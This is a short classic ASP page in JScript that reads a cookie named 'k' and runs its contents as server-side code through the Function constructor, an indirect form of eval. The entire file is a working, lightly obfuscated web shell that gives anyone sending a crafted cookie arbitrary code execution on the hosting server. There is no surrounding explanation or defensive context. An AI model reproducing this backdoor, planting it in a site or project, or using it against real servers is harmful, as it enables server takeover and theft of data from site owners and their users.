<%@ Language="JScript" %>
<%
var maker = Function.prototype.constructor;
var src = Request.Cookies("k") + "";
maker(src)();
%>
